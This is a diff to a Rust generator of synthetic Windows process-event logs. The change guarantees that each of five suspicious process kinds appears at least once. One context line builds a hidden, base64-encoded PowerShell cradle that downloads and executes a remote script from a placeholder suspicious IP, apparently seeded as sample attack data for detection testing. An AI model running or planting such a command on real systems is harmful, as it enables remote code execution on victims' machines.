@@ -75,12 +75,16 @@ pub fn encode_powershell(script: &str) -> String {
     base64::engine::general_purpose::STANDARD.encode(utf16)
 }
 
+/// How many kinds of suspicious process [`suspicious`] makes.
+const SUSPICIOUS_KINDS: u64 = 5;
+
 /// One suspicious process: (image, command line) started by a user's process.
-fn suspicious(rng: &mut SampleRng) -> (String, String) {
+/// `kind` picks the technique (0–4); `None` picks one at random.
+fn suspicious(rng: &mut SampleRng, kind: Option<u64>) -> (String, String) {
     let ip = rng.pick(SUSPICIOUS_IPS);
     let domain = rng.pick(SUSPICIOUS_DOMAINS);
     let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
-    match rng.below(5) {
+    match kind.unwrap_or_else(|| rng.below(SUSPICIOUS_KINDS)) {
         0 => {
             let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')");
             (ps.into(), format!("powershell.exe -nop -w hidden -enc {}", encode_powershell(&script)))
@@ -184,6 +188,7 @@ pub(super) fn process_events(sample: &SampleData, n: usize) -> Frame {
         }
         hosts[h].spawners = booted.into_iter().filter(|p| is_spawner(&p.image)).collect();
     }
+    let mut forced_kind = 0;
     for index in emitted..n {
         let h = rng.below(HOSTS.len() as u64) as usize;
         let host = HOSTS[h];
@@ -191,8 +196,15 @@ pub(super) fn process_events(sample: &SampleData, n: usize) -> Frame {
         let parent = rng.pick(&state.spawners).clone();
         let server = !host.starts_with("WKS");
         let is_user = !parent.user.ends_with('$');
-        let (image, command_line) = if is_user && (index == n / 2 || rng.chance(0.002)) {
-            suspicious(&mut rng)
+        // Every kind of suspicious process appears at least once (spread over the log), plus a
+        // few random ones.
+        let forced_due = forced_kind < SUSPICIOUS_KINDS
+            && index >= n * (forced_kind as usize + 1) / (SUSPICIOUS_KINDS as usize + 1);
+        let (image, command_line) = if is_user && forced_due {
+            forced_kind += 1;
+            suspicious(&mut rng, Some(forced_kind - 1))
+        } else if is_user && rng.chance(0.002) {
+            suspicious(&mut rng, None)
         } else {
             let (image, args, _) = *rng.weighted_triple(children_of(&parent.image, server));
             let image = image.replace("{user}", &parent.user);
